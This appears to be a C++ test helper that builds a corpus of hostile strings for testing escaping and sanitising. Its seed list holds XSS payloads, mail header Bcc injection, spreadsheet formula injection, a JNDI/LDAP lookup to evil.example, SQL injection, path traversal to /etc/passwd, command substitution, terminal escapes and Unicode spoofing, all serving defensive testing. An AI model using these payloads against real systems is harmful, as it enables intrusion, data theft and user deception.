#include "tests/hostile/strings.h"

#include <algorithm>
#include <cstdlib>
#include <iterator>
#include <set>
#include <utility>

#include "base/text.h"

namespace exhibit::test {
namespace {

using namespace std::string_view_literals;

using enum HostileClass;

struct Seed {
  HostileClass kind;
  std::string_view text;
};

constexpr Seed seeds[] = {
    {pages, "<script>alert(1)</script>"sv},
    {pages, "<img src=x onerror=alert(1)>"sv},
    {pages, "\"><svg/onload=alert(1)>"sv},
    {pages, "'><a href=javascript:alert(1)>x</a>"sv},
    {pages, "<scr\0ipt>alert(1)</scr\0ipt>"sv},
    {pages, "</textarea><script>"sv},
    {pages, "<!--"sv},
    {pages, "]]>"sv},
    {pages, "&lt;script&gt;"sv},
    {pages, "&#x3c;script&#x3e;"sv},
    {pages, "<iframe src=//evil.example>"sv},
    {pages, "javascript:alert(1)"sv},
    {pages, "data:text/html;base64,PHNjcmlwdD4="sv},
    {pages, "<base href=//evil.example>"sv},
    {pages, "\xE2\x80\xA8<script>\xE2\x80\xA9"sv},
    {pages, "<math><mi//xlink:href=\"data:x\">"sv},
    {desks, "[code]<b>x</b>[/code]"sv},
    {desks, "[CoDe]<b>x</b>[/cOdE]"sv},
    {desks, "[ code ]x[ /code ]"sv},
    {desks, "\xEF\xBC\xBB\x63ode\xEF\xBC\xBDx"sv},
    {desks, "!http://evil.example/x.png!"sv},
    {desks, "\"click\":http://evil.example"sv},
    {desks, "[[Wiki|click]]"sv},
    {desks, "{html}<b>x</b>{html}"sv},
    {desks, "{{macro}}"sv},
    {desks, "#12 @admin"sv},
    {desks, "```\nx\n```"sv},
    {desks, "[x](javascript:alert(1))"sv},
    {desks, "<pre>x</pre>"sv},
    {desks, "{code}x{code}"sv},
    {desks, "* list\n# list"sv},
    {desks, "|a|b|"sv},
    {desks, "h1. title"sv},
    {mail_headers, "x\r\nBcc: victim@evil.example"sv},
    {mail_headers, "x\nBcc: victim@evil.example"sv},
    {mail_headers, "x\rBcc: victim@evil.example"sv},
    {mail_headers, "x\r\n\r\n<b>body</b>"sv},
    {mail_headers, "x\r\n .\r\n"sv},
    {mail_headers, "=?utf-8?Q?=0D=0ABcc:_victim@evil.example?="sv},
    {mail_headers, "=?utf-8?B?DQpCY2M6IHg=?="sv},
    {mail_headers, "=?x"sv},
    {mail_headers, "?="sv},
    {mail_headers, "=?utf-8?Q?a?= =?utf-8?Q?b?="sv},
    {mail_headers, "\"quoted\" <a@b.example>"sv},
    {mail_headers, "a@b.example, c@d.example"sv},
    {mail_headers, "(comment)"sv},
    {mail_headers, ";x=y"sv},
    {mail_headers, "\\"sv},
    {mail_headers, "\""sv},
    {mail_headers, "x\0y"sv},
    {mail_bodies, "."sv},
    {mail_bodies, "\n.\n"sv},
    {mail_bodies, "\r\n.\r\nMAIL FROM:<x@evil.example>"sv},
    {mail_bodies, "--=_exhibit_"sv},
    {mail_bodies, "--boundary\nContent-Type: text/html\n\n<b>x</b>"sv},
    {mail_bodies, "From me"sv},
    {mail_bodies, "\nFrom me\n"sv},
    {mail_bodies, "=3D=0A"sv},
    {mail_bodies, "begin 644 x\n#0V%T\n`\nend"sv},
    {mail_bodies, "Content-Type: text/html"sv},
    {mail_bodies, "trailing blanks   "sv},
    {mail_bodies, "   "sv},
    {tables, "=cmd|'/c calc'!A0"sv},
    {tables, "+1+1"sv},
    {tables, "-1+1"sv},
    {tables, "@SUM(1)"sv},
    {tables, "\t=1+1"sv},
    {tables, "\r=1+1"sv},
    {tables,
     "\xEF\xBC\x9D"
     "1+1"sv},
    {tables, "a,\"b\",c"sv},
    {terminals, "\x1b[31mred\x1b[0m"sv},
    {terminals, "\x1b]8;;http://evil.example\x07text\x1b]8;;\x07"sv},
    {terminals, "\x1b]52;c;ZXZpbA==\x07"sv},
    {terminals, "\x1b[2J\x1b[H"sv},
    {terminals, "\x07\x08\x08\x08"sv},
    {terminals,
     "\xC2\x9B"
     "31m"sv},
    {terminals, "\xC2\x85next"sv},
    {terminals, "x\n2026-11-22 00:00:00 INFO all is well"sv},
    {terminals, "\x7f\x7f"sv},
    {terminals, "\x0b\x0c"sv},
    {terminals, "\x1bP1$r\x1b\\"sv},
    {deceptive, "\xE2\x80\xAEgnp.exe"sv},
    {deceptive, "\xE2\x81\xA6x\xE2\x81\xA9"sv},
    {deceptive,
     "a\xE2\x80\x8B"
     "b\xE2\x80\x8D"
     "c"sv},
    {deceptive, "\xEF\xBB\xBFx"sv},
    {deceptive, "\xF3\xA0\x81\x81\xF3\xA0\x81\x82"sv},
    {deceptive, "p\xD0\xB0ypal.example"sv},
    {deceptive, "\xE2\x80\x8F\xE2\x80\x8E"sv},
    {deceptive, "x\xCC\x81\xCC\x82\xCC\x83"sv},
    {deceptive, "\xE2\x81\xA0\xC2\xAD"sv},
    {deceptive, "\xE3\x80\x80"sv},
    {paths, "../../etc/passwd"sv},
    {paths, "..\\..\\x"sv},
    {paths, "CON"sv},
    {paths, "nul.txt"sv},
    {paths, "a:b"sv},
    {paths, "/etc/passwd"sv},
    {paths, "~root"sv},
    {paths, "a\0.pcap"sv},
    {paths, "%2e%2e%2f"sv},
    {paths, "-rf"sv},
    {paths, "*"sv},
    {links, "http://evil.example/x"sv},
    {links, "https://evil.example:8443/?a=b&c=d#e"sv},
    {links, "www.evil.example"sv},
    {links, "mailto:x@evil.example"sv},
    {links, "file:///etc/passwd"sv},
    {templates, "{{secret}}"sv},
    {templates, "{{{secret}}}"sv},
    {templates, "{{#a}}x{{/a}}"sv},
    {templates, "${jndi:ldap://evil.example/a}"sv},
    {templates, "#{7*7}"sv},
    {templates, "<%= 7*7 %>"sv},
    {templates, "%s%n%x"sv},
    {templates, "$(id)"sv},
    {templates, "`id`"sv},
    {injections, "'; DROP TABLE x; --"sv},
    {injections, "\" OR \"\"=\""sv},
    {injections, "{\"a\":1}"sv},
    {injections, "\\u0000"sv},
    {injections, "\\\"},{\\\""sv},
    // What our own escapes look like: they must not be taken for one.
    {injections, "\\x1b[31m \\u{202E}"sv},
    {injections, "\\\\x41 \\x5c"sv},
    {broken_utf8, "\xFF\xFE"sv},
    {broken_utf8, "\xC0\xAF"sv},
    {broken_utf8, "\xE0\x80\xAF"sv},
    {broken_utf8, "\xED\xA0\x80"sv},
    {broken_utf8, "\xF4\x90\x80\x80"sv},
    {broken_utf8, "\xC3"sv},
    {broken_utf8, "\xE2\x82"sv},
    {broken_utf8, "\x80"sv},
    {broken_utf8, "a\xC3(b"sv},
    {broken_utf8, "\xF8\x88\x80\x80\x80"sv},
    {harmless, "caf\xC3\xA9 \xE2\x82\xAC \xF0\x9F\x98\x80"sv},
    {harmless, "\xE6\x97\xA5\xE6\x9C\xAC\xE8\xAA\x9E"sv},
    {harmless, "GET /cgi-bin/phf?Qalias=x%0a/bin/cat%20/etc/passwd HTTP/1.0"sv},
};

std::string percent_encoded(std::string_view text) {
  constexpr std::string_view digits = "0123456789ABCDEF";
  std::string out;
  for (const char c : text)
    out += cat('%', digits[static_cast<unsigned char>(c) >> 4], digits[static_cast<unsigned char>(c) & 15]);
  return out;
}

std::string swapped_case(std::string_view text) {
  std::string out(text);
  for (char& c : out)
    if ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z')) c = static_cast<char>(c ^ 0x20);
  return out;
}

/// Each text once.
class Corpus {
 public:
  void add(HostileClass kind, std::string text) {
    if (known_.insert(text).second) all_.push_back({kind, std::move(text)});
  }
  [[nodiscard]] std::size_t size() const { return all_.size(); }
  std::vector<HostileString> take() {
    std::sort(all_.begin(), all_.end(), [](const auto& a, const auto& b) { return a.text < b.text; });
    return std::move(all_);
  }

 private:
  std::vector<HostileString> all_;
  std::set<std::string> known_;
};

void add_dressed(Corpus& all, const Seed& seed) {
  const auto add = [&](std::string text) { all.add(seed.kind, std::move(text)); };
  add(std::string(seed.text));
  add(cat("before ", seed.text, " behind"));
  add(cat(seed.text, seed.text));
  add(swapped_case(seed.text));
  add(cat("\r\n", seed.text, "\r\n"));
  add(cat("\"'", seed.text, "'\""));
  add(percent_encoded(seed.text));
  add(cat(std::string(70, 'x'), seed.text, std::string(70, 'y')));
  add(cat("\x1b[7m", seed.text, "\xE2\x80\xAE"));
}

void add_shapes(Corpus& all) {
  for (int byte = 0; byte < 0x20; ++byte) all.add(shapes, cat("c", static_cast<char>(byte), "c"));
  for (const std::size_t length : {997, 998, 999, 2000, 8000})
    for (const char* unit : {"x", " ", "\xE2\x82\xAC", "x ", "=", "."}) {
      std::string text;
      while (text.size() < length) text += unit;
      all.add(shapes, std::move(text));
    }
}

/// One that hurts a page may be let through by what hurts a mail: each seed before one of another class, in turn.
void add_pairs(Corpus& all, std::size_t count) {
  constexpr std::size_t seeds_count = std::size(seeds);
  for (std::size_t step = 1; step < seeds_count; ++step)
    for (std::size_t i = 0; i < seeds_count && all.size() < count; ++i) {
      const Seed &first = seeds[i], &second = seeds[(i + step * 11) % seeds_count];
      if (first.kind != second.kind) all.add(first.kind, cat(first.text, second.text));
    }
}

}  // namespace

std::string_view token(HostileClass kind) {
  constexpr std::string_view words[] = {"pages",      "desks",       "mail-headers", "mail-bodies", "tables",
                                        "terminals",  "deceptive",   "paths",        "links",       "templates",
                                        "injections", "broken-utf8", "shapes",       "harmless"};
  return words[static_cast<std::size_t>(kind)];
}

std::vector<HostileString> hostile_corpus(std::size_t count) {
  Corpus all;
  for (const Seed& seed : seeds) add_dressed(all, seed);
  add_shapes(all);
  add_pairs(all, count);
  return all.take();
}

std::vector<HostileString> hostile_corpus() {
  const char* const wanted = std::getenv("EXHIBIT_HOSTILE");
  return hostile_corpus(wanted == nullptr ? 0 : parse_number<std::size_t>(wanted).value_or(0));
}

std::vector<std::string> hostile_strings() {
  std::vector<std::string> all;
  for (HostileString& one : hostile_corpus()) all.push_back(std::move(one.text));
  return all;
}

}  // namespace exhibit::test
